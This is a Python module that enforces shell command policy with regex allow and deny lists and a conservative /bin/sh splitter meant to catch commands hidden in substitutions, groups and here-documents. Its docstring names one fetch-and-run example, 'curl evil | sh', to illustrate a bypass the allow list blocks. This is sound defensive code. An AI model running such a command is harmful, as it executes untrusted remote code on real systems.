"""Command policy: which shell command lines a task may run.

A policy is two lists of regular expressions (``OFFLOAD_ALLOW`` / ``OFFLOAD_DENY`` or the
config file). Deny wins. With an allow list, *every* simple command in a command line must
match an allow pattern, including the ones hidden in ``$( )`` and backquotes, so an allow
rule for ``make`` does not let ``make && curl evil | sh`` through.

The splitter follows ``/bin/sh`` closely enough to be safe rather than complete: wherever
dash and bash would read a line differently, or the scanner cannot be sure, it refuses to
parse, and an unparseable line is refused whenever an allow list is set. Everything here is
a pure function of its arguments.
"""

from __future__ import annotations

import re
import shlex
from collections.abc import Callable, Iterator, Sequence
from contextlib import contextmanager
from dataclasses import dataclass

from offload.errors import ConfigError, PolicyRefused

__all__ = [
    "CommandPolicy",
    "Decision",
    "check_command",
    "compile_policy",
    "parse_pattern_list",
    "split_simple_commands",
]

_PLACEHOLDER = "$(...)"  # what an outer command keeps in place of a substitution
_MAX_NESTING = 32
_MAX_SHOWN_CHARS = 120
_PARSE_HINT = "check its quotes and brackets, or submit it as an argv list"
_BLANKS = (" ", "\t")
_WORD_ENDS = frozenset(" \t\n;&|()<>")
_HEREDOC_WORD = re.compile(r"[A-Za-z0-9_.+-]+")
_END = r"(?:[ \t\n]+|$)"
_RESERVED_PREFIX = re.compile(r"(?:(?:if|then|else|elif|do|while|until|!)[ \t\n]+)*")
_LEADING_RESERVED = re.compile(r"(?:if|then|else|elif|do|while|until|!)" + _END)
_CLOSING_RESERVED = re.compile(r"(?:fi|done|esac)" + _END)
_FOR_HEADER = re.compile(r"for[ \t\n]+[A-Za-z_][A-Za-z0-9_]*" + _END + "(.*)", re.DOTALL)
_IN_WORD = re.compile(r"in" + _END)
_DO_WORD = re.compile(r"do" + _END)


@dataclass(frozen=True)
class CommandPolicy:
    """Compiled allow and deny patterns; empty tuples mean "no rule of that kind"."""

    allow: tuple[re.Pattern[str], ...] = ()
    deny: tuple[re.Pattern[str], ...] = ()


@dataclass(frozen=True)
class Decision:
    """The verdict on one command.

    Attributes:
        allowed: Whether the command may run.
        reason: For a refusal, one line naming the rule that refused it; ``""`` when allowed.
    """

    allowed: bool
    reason: str = ""


def compile_policy(allow: Sequence[str], deny: Sequence[str]) -> CommandPolicy:
    """Compile allow and deny patterns once, at start-up, so a typo fails loudly and early.

    Empty or whitespace-only entries are ignored; other entries are compiled as written.

    Raises:
        ConfigError: A pattern is not a valid regular expression (the message names the
            pattern and the regex error), or a list was given as a single string.
    """
    return CommandPolicy(
        allow=_compile_all(allow, "OFFLOAD_ALLOW"),
        deny=_compile_all(deny, "OFFLOAD_DENY"),
    )


def parse_pattern_list(value: str) -> list[str]:
    r"""Split the environment-variable form of a pattern list.

    Patterns are separated by commas; ``\,`` stands for a literal comma and every other
    backslash pair (``\d``, ``\\``) is kept as written for the regex. Surrounding whitespace
    is stripped and empty entries are dropped.
    """
    patterns: list[str] = []
    current: list[str] = []
    index = 0
    while index < len(value):
        pair = value[index : index + 2]
        if pair.startswith("\\") and len(pair) == 2:
            current.append("," if pair == "\\," else pair)
            index += 2
            continue
        if pair[0] == ",":
            patterns.append("".join(current))
            current = []
        else:
            current.append(pair[0])
        index += 1
    patterns.append("".join(current))
    return [pattern.strip() for pattern in patterns if pattern.strip()]


def split_simple_commands(command: str) -> list[str]:
    """Split a ``/bin/sh`` command line into the simple commands it would run.

    Splits on ``;``, ``&&``, ``||``, ``|``, ``&`` and newlines; descends into ``( )``
    subshells, ``{ ...; }`` groups, ``$( )``, backquotes and bash's ``<( )``/``>( )``, whose
    inner commands are returned before the outer one (which keeps ``$(...)`` in their
    place). Quotes, backslashes, comments, ``$(( ))`` and here-documents are understood, so
    an operator inside them does not split. Each command is returned as its raw text.

    Raises:
        PolicyRefused: The line cannot be parsed with confidence ("cannot parse command:
            <why>; ..."): unbalanced quotes, brackets or substitutions, a here-document
            without its end line, ``$'...'`` quoting, ``(`` in the middle of a command.
    """
    return _Splitter(command).split()


def check_command(command: str | Sequence[str], policy: CommandPolicy) -> Decision:
    """Decide whether a task's command may run under ``policy``.

    A string is a ``/bin/sh`` command line and is split into simple commands; an argv list
    is joined with :func:`shlex.join` and treated as one simple command. Deny patterns are
    searched in every simple command (as written and with its quotes removed) and in the
    whole line; any match refuses. With an allow list, every simple command must match one
    allow pattern, and a line that cannot be parsed is refused. Never raises.
    """
    parsed = _parse_line(command) if isinstance(command, str) else _parse_argv(command)
    if isinstance(parsed, Decision):
        return parsed
    reason = _deny_reason(policy.deny, parsed)
    if reason is None and policy.allow:
        reason = _allow_reason(policy.allow, parsed)
    return Decision(allowed=False, reason=reason) if reason else Decision(allowed=True)


# --- policy helpers ---------------------------------------------------------------------


@dataclass(frozen=True)
class _Parsed:
    """A command ready for matching: its simple commands and the texts deny rules see."""

    simple: tuple[str, ...]
    deny_forms: tuple[str, ...]
    error: str = ""


def _compile_all(patterns: Sequence[str], setting: str) -> tuple[re.Pattern[str], ...]:
    if isinstance(patterns, str):
        raise ConfigError(f"{setting} must be a list of patterns, not the string {patterns!r}")
    compiled: list[re.Pattern[str]] = []
    for pattern in patterns:
        if not isinstance(pattern, str):
            raise ConfigError(f"{setting} pattern {pattern!r} must be a string")
        if not pattern.strip():
            continue
        try:
            compiled.append(re.compile(pattern))
        except (re.error, OverflowError, RecursionError) as exc:
            raise ConfigError(f"invalid {setting} pattern {pattern!r}: {exc}") from exc
    return tuple(compiled)


def _parse_line(line: str) -> _Parsed | Decision:
    if not line.strip():
        return Decision(allowed=False, reason="empty command")
    if "\0" in line:
        return Decision(allowed=False, reason="command contains a NUL byte")
    try:
        simple = split_simple_commands(line)
    except PolicyRefused as exc:
        return _Parsed(simple=(), deny_forms=(line,), error=str(exc))
    if not simple:
        return Decision(allowed=False, reason="empty command (only comments or separators)")
    forms: list[str] = []
    for text in simple:
        forms.append(text)
        forms.extend(_unquoted(text))
    forms.append(line)
    return _Parsed(simple=tuple(simple), deny_forms=tuple(dict.fromkeys(forms)))


def _parse_argv(argv: object) -> _Parsed | Decision:
    if not isinstance(argv, Sequence) or not all(isinstance(arg, str) for arg in argv):
        return Decision(allowed=False, reason="command must be a string or a list of strings")
    words = [str(arg) for arg in argv]
    if not words or not words[0].strip():
        return Decision(allowed=False, reason="empty command")
    if any("\0" in word for word in words):
        return Decision(allowed=False, reason="command contains a NUL byte")
    joined = shlex.join(words)
    forms = dict.fromkeys([joined, " ".join(words)])
    return _Parsed(simple=(joined,), deny_forms=tuple(forms))


def _unquoted(text: str) -> list[str]:
    """The command with shell quoting removed, so ``r''m`` cannot dodge a deny rule."""
    try:
        return [" ".join(shlex.split(text))]
    except ValueError:
        return []


def _deny_reason(deny: Sequence[re.Pattern[str]], parsed: _Parsed) -> str | None:
    for form in parsed.deny_forms:
        for pattern in deny:
            if pattern.search(form):
                return f"refused by deny rule {pattern.pattern!r} (matched in {_shown(form)})"
    return None


def _allow_reason(allow: Sequence[re.Pattern[str]], parsed: _Parsed) -> str | None:
    if parsed.error:
        return parsed.error
    for simple in parsed.simple:
        if not any(pattern.search(simple) for pattern in allow):
            return f"{_shown(simple)} is not allowed by any OFFLOAD_ALLOW pattern"
    return None


def _shown(text: str) -> str:
    """Quote text for a one-line message, shortening very long commands."""
    if len(text) > _MAX_SHOWN_CHARS:
        text = text[:_MAX_SHOWN_CHARS] + "..."
    return repr(text)


# --- the splitter -----------------------------------------------------------------------


def _ends_word(char: str) -> bool:
    return not char or char in _WORD_ENDS


def _unparseable(why: str) -> PolicyRefused:
    return PolicyRefused(f"cannot parse command: {why}; {_PARSE_HINT}")


@dataclass(frozen=True)
class _Heredoc:
    delimiter: str
    literal: bool  # a quoted delimiter: the body is not expanded
    strip_tabs: bool  # written <<-
    depth: int


class _Command:
    """The simple command being read: its raw text and what operators need to look back at."""

    __slots__ = ("after_group", "last_plain", "parts")

    def __init__(self) -> None:
        self.parts: list[str] = []
        self.last_plain = ""  # the last character if it was unquoted and unescaped
        self.after_group = False  # a ( ) or { } just closed: only redirections may follow

    def plain(self, char: str) -> None:
        self.parts.append(char)
        self.last_plain = char

    def text(self, chunk: str) -> None:
        self.parts.append(chunk)
        self.last_plain = ""

    def is_blank(self) -> bool:
        return not "".join(self.parts).strip(" \t\n")

    def at_command_start(self) -> bool:
        """True if only reserved words such as ``then`` or ``!`` have been read."""
        return _RESERVED_PREFIX.fullmatch("".join(self.parts).lstrip(" \t\n")) is not None

    def at_word_start(self) -> bool:
        return not self.parts or self.last_plain in _BLANKS

    def take(self) -> str:
        """Return the finished command ("" for none) and start reading the next one."""
        done = "" if self.after_group else _without_reserved_words("".join(self.parts))
        self.parts, self.last_plain, self.after_group = [], "", False
        return done


def _without_reserved_words(text: str) -> str:
    """Strip the reserved words of if/while/until/for, which are not commands themselves.

    ``for NAME in WORDS`` is dropped whole (its substitutions were already collected) and
    so is whatever follows ``fi``/``done``/``esac``, where only redirections may stand.
    """
    text = text.strip(" \t\n")
    while match := _LEADING_RESERVED.match(text):
        text = text[match.end() :]
    if _CLOSING_RESERVED.match(text):
        return ""
    header = _FOR_HEADER.match(text)
    if header is None:
        return text
    rest = header.group(1)
    if not rest or _IN_WORD.match(rest):
        return ""
    return _without_reserved_words(rest) if _DO_WORD.match(rest) else text


class _Splitter:
    """A small recursive scanner over one command line (see :func:`split_simple_commands`)."""

    def __init__(self, text: str, depth: int = 0, offset: int = 0) -> None:
        self._text = text
        self._pos = 0
        self._depth = depth
        self._offset = offset  # where this text starts in the whole line, for messages
        self._heredocs: list[_Heredoc] = []
        self.commands: list[str] = []
        self._handlers: dict[str, Callable[[_Command], None]] = {
            "\n": self._newline,
            ";": self._separator,
            "&": self._ampersand,
            "|": self._bar,
            "'": self._quote,
            '"': self._quote,
            "\\": self._backslash,
            "$": lambda cmd: cmd.text(self._expansion(in_dquote=False)),
            "`": lambda cmd: cmd.text(self._backquote(in_dquote=False)),
            "<": self._angle,
            ">": self._angle,
            "(": self._open_paren,
            ")": self._close_paren,
            "{": self._open_brace,
            "#": self._hash,
        }

    def split(self) -> list[str]:
        self._parse_list("", 0)
        return self.commands

    def scan_heredoc_body(self) -> list[str]:
        """Collect the substitutions of an expanded here-document body (quotes are plain)."""
        while self._pos < len(self._text):
            if self._text[self._pos] in "$`\\":
                self._word_piece(in_dquote=True)
            else:
                self._pos += 1
        return self.commands

    # -- positions: lookahead skips backslash-newlines, as the shell joins those lines first

    def _index(self, offset: int) -> int:
        index = self._pos
        while True:
            while self._text.startswith("\\\n", index):
                index += 2
            if offset == 0:
                return index
            index += 1
            offset -= 1

    def _peek(self, offset: int = 0) -> str:
        index = self._index(offset)
        return self._text[index] if index < len(self._text) else ""

    def _skip(self, count: int) -> None:
        self._pos = self._index(count)

    def _where(self, index: int) -> str:
        return f"position {index + self._offset}"

    @contextmanager
    def _deeper(self, start: int) -> Iterator[None]:
        if self._depth >= _MAX_NESTING:
            raise _unparseable(f"nested over {_MAX_NESTING} levels deep at {self._where(start)}")
        self._depth += 1
        try:
            yield
        finally:
            self._depth -= 1

    # -- lists and simple commands

    def _parse_list(self, closer: str, opened_at: int) -> None:
        cmd = _Command()
        while self._pos < len(self._text):
            if self._closes(closer, cmd):
                self._check_no_heredoc_inside(closer)
                self._pos += 1
                self._finish(cmd)
                return
            char = self._text[self._pos]
            handler = self._handlers.get(char)
            if handler is None:
                cmd.plain(char)
                self._pos += 1
            else:
                handler(cmd)
        if closer:
            raise _unparseable(f"{closer!r} missing for the one opened at {self._where(opened_at)}")
        if self._heredocs:
            raise _unparseable(f"here-document {self._heredocs[0].delimiter!r} has no body")
        self._finish(cmd)

    def _closes(self, closer: str, cmd: _Command) -> bool:
        if not closer or self._text[self._pos] != closer:
            return False
        return closer == ")" or (cmd.is_blank() and _ends_word(self._peek(1)))

    def _check_no_heredoc_inside(self, closer: str) -> None:
        # dash and bash disagree on where such a body starts, so refuse rather than guess.
        for doc in self._heredocs:
            if doc.depth >= self._depth:
                raise _unparseable(f"here-document {doc.delimiter!r} is still open at {closer!r}")

    def _finish(self, cmd: _Command) -> None:
        done = cmd.take()
        if done:
            self.commands.append(done)

    # -- handlers, one per special character

    def _separator(self, cmd: _Command) -> None:
        self._pos += 1
        self._finish(cmd)

    def _newline(self, cmd: _Command) -> None:
        self._pos += 1
        self._finish(cmd)
        if any(doc.depth != self._depth for doc in self._heredocs):
            raise _unparseable("a newline inside brackets while a here-document is pending")
        pending, self._heredocs = self._heredocs, []
        for doc in pending:
            self._heredoc_body(doc)

    def _ampersand(self, cmd: _Command) -> None:
        if cmd.last_plain in ("<", ">"):  # >& and <& duplicate a file descriptor
            cmd.plain("&")
            self._pos += 1
            return
        self._skip(2 if self._peek(1) == "&" else 1)
        self._finish(cmd)

    def _bar(self, cmd: _Command) -> None:
        if cmd.last_plain == ">":  # >| is the clobbering redirection, not a pipe
            cmd.plain("|")
            self._pos += 1
            return
        self._skip(2 if self._peek(1) == "|" else 1)
        self._finish(cmd)

    def _quote(self, cmd: _Command) -> None:
        quote = self._text[self._pos]
        cmd.text(self._single_quoted() if quote == "'" else self._double_quoted())

    def _backslash(self, cmd: _Command) -> None:
        pair = self._text[self._pos : self._pos + 2]
        self._pos += len(pair)
        if pair != "\\\n":  # a backslash-newline joins two lines and vanishes
            cmd.text(pair)

    def _angle(self, cmd: _Command) -> None:
        char, start = self._text[self._pos], self._pos
        if self._peek(1) == "(":  # bash process substitution runs a command
            self._skip(2)
            with self._deeper(start):
                self._parse_list(")", start)
            cmd.text(char + "(...)")
        elif char == "<" and self._peek(1) == "<" and self._peek(2) == "<":
            for _ in range(3):  # a bash here-string: its word is read as usual
                cmd.plain("<")
            self._skip(3)
        elif char == "<" and self._peek(1) == "<":
            self._here_document(cmd)
        else:
            cmd.plain(char)
            self._pos += 1

    def _open_paren(self, cmd: _Command) -> None:
        start = self._pos
        if not cmd.at_command_start():
            raise _unparseable(
                f"unexpected '(' at {self._where(start)} (function definitions, arrays and "
                "extended globs are not supported)"
            )
        self._skip(1)
        with self._deeper(start):
            self._parse_list(")", start)
        cmd.after_group = True

    def _close_paren(self, cmd: _Command) -> None:
        raise _unparseable(f"unexpected ')' at {self._where(self._pos)}")

    def _open_brace(self, cmd: _Command) -> None:
        start = self._pos
        if not (cmd.at_command_start() and self._peek(1) in (" ", "\t", "\n")):
            cmd.plain("{")  # not the reserved word: brace expansion or a plain argument
            self._pos += 1
            return
        self._skip(1)
        with self._deeper(start):
            self._parse_list("}", start)
        cmd.after_group = True

    def _hash(self, cmd: _Command) -> None:
        if not cmd.at_word_start():
            cmd.plain("#")
            self._pos += 1
            return
        end = self._text.find("\n", self._pos)
        self._pos = len(self._text) if end < 0 else end

    # -- quotes and expansions: each reads from the current position and returns its text

    def _single_quoted(self) -> str:
        start = self._pos
        end = self._text.find("'", start + 1)
        if end < 0:
            raise _unparseable(f"single quote at {self._where(start)} is never closed")
        self._pos = end + 1
        return self._text[start : end + 1]

    def _double_quoted(self) -> str:
        start = self._pos
        self._pos += 1
        out = ['"']
        while self._pos < len(self._text):
            char = self._text[self._pos]
            if char == '"':
                self._pos += 1
                out.append('"')
                return "".join(out)
            if char in "$`\\":
                out.append(self._word_piece(in_dquote=True))
            else:
                out.append(char)
                self._pos += 1
        raise _unparseable(f"double quote at {self._where(start)} is never closed")

    def _word_piece(self, in_dquote: bool) -> str:
        """Read one character, escape, quote or expansion inside a larger construct."""
        char = self._text[self._pos]
        if char == "$":
            return self._expansion(in_dquote)
        if char == "`":
            return self._backquote(in_dquote)
        if char == "\\":
            pair = self._text[self._pos : self._pos + 2]
            self._pos += len(pair)
            return "" if pair == "\\\n" else pair
        if char in "'\"" and not in_dquote:
            return self._single_quoted() if char == "'" else self._double_quoted()
        self._pos += 1
        return char

    def _expansion(self, in_dquote: bool) -> str:
        start, after = self._pos, self._peek(1)
        if after == "(" and self._peek(2) == "(":
            self._skip(3)
            return self._arithmetic(start, in_dquote)
        if after == "(":
            self._skip(2)
            with self._deeper(start):
                self._parse_list(")", start)
            return _PLACEHOLDER
        if after == "{":
            self._skip(2)
            return self._parameter(start, in_dquote)
        if after == "'" and not in_dquote:
            where = self._where(start)
            raise _unparseable(f"$'...' quoting at {where} is read differently by dash and bash")
        self._pos += 1
        return "$"

    def _arithmetic(self, start: int, in_dquote: bool) -> str:
        out, depth = ["$(("], 0
        with self._deeper(start):
            while self._pos < len(self._text):
                char = self._text[self._pos]
                if char == ")" and depth == 0:
                    if self._peek(1) != ")":
                        raise _unparseable(f"'$((' at {self._where(start)} is not closed by '))'")
                    self._skip(2)
                    return "".join([*out, "))"])
                depth += {"(": 1, ")": -1}.get(char, 0)
                out.append(self._word_piece(in_dquote))
        raise _unparseable(f"'$((' at {self._where(start)} is never closed")

    def _parameter(self, start: int, in_dquote: bool) -> str:
        out = ["${"]
        with self._deeper(start):
            while self._pos < len(self._text):
                char = self._text[self._pos]
                if char == "}":
                    self._pos += 1
                    return "".join([*out, "}"])
                if char == "'" and in_dquote:
                    raise _unparseable(
                        f"a single quote inside '${{...}}' within double quotes at "
                        f"{self._where(self._pos)} is read differently by dash and bash"
                    )
                out.append(self._word_piece(in_dquote=False))
        raise _unparseable(f"'${{' at {self._where(start)} is never closed")

    def _backquote(self, in_dquote: bool) -> str:
        start = self._pos
        self._pos += 1
        escapable = '$`\\"' if in_dquote else "$`\\"
        inner: list[str] = []
        while self._pos < len(self._text):
            char, following = self._text[self._pos], self._text[self._pos + 1 : self._pos + 2]
            if char == "`":
                self._pos += 1
                self._split_inner("".join(inner), start + 1)
                return _PLACEHOLDER
            if char == "\\" and following and following in escapable:
                inner.append(following)
                self._pos += 2
            else:
                inner.append(char)
                self._pos += 1
        raise _unparseable(f"backquote at {self._where(start)} is never closed")

    def _split_inner(self, text: str, text_start: int, heredoc: bool = False) -> None:
        with self._deeper(text_start):
            inner = _Splitter(text, self._depth, self._offset + text_start)
            self.commands.extend(inner.scan_heredoc_body() if heredoc else inner.split())

    # -- here-documents

    def _here_document(self, cmd: _Command) -> None:
        start = self._pos
        self._skip(2)
        strip_tabs = self._peek() == "-"
        self._skip(1 if strip_tabs else 0)
        while self._peek() in _BLANKS:
            self._skip(1)
        delimiter, literal = self._heredoc_word(start)
        cmd.text(self._text[start : self._pos])
        self._heredocs.append(_Heredoc(delimiter, literal, strip_tabs, self._depth))

    def _heredoc_word(self, start: int) -> tuple[str, bool]:
        """Read the delimiter word; refuse anything but a plain word, quoted or not."""
        word_start, literal = self._pos, False
        chars: list[str] = []
        while self._pos < len(self._text) and self._text[self._pos] not in _WORD_ENDS:
            char = self._text[self._pos]
            if char == "\\":
                pair = self._text[self._pos : self._pos + 2]
                self._pos += len(pair)
                literal = literal or pair != "\\\n"
                chars.append(pair[1:] if pair != "\\\n" else "")
            elif char in "'\"":
                literal = True
                quoted = self._single_quoted() if char == "'" else self._double_quoted()
                chars.append(quoted[1:-1])
            else:
                chars.append(char)
                self._pos += 1
        delimiter = "".join(chars)
        if not _HEREDOC_WORD.fullmatch(delimiter):
            written = self._text[word_start : self._pos]
            raise _unparseable(
                f"here-document at {self._where(start)} needs a plain end word, not {written!r}"
            )
        return delimiter, literal

    def _heredoc_body(self, doc: _Heredoc) -> None:
        start = self._pos
        lines: list[str] = []
        while self._pos < len(self._text):
            line = self._heredoc_line(joined=not doc.literal)
            if (line.lstrip("\t") if doc.strip_tabs else line) == doc.delimiter:
                if not doc.literal:
                    self._split_inner("\n".join(lines), start, heredoc=True)
                return
            lines.append(line)
        raise _unparseable(f"here-document {doc.delimiter!r} has no line ending it")

    def _heredoc_line(self, joined: bool) -> str:
        """Read one body line; an unquoted body joins lines ending in an odd backslash."""
        parts: list[str] = []
        while True:
            end = self._text.find("\n", self._pos)
            stop = len(self._text) if end < 0 else end
            line = self._text[self._pos : stop]
            self._pos = min(stop + 1, len(self._text))
            trailing = len(line) - len(line.rstrip("\\"))
            if not (joined and trailing % 2 and end >= 0):
                return "".join([*parts, line])
            parts.append(line[:-1])
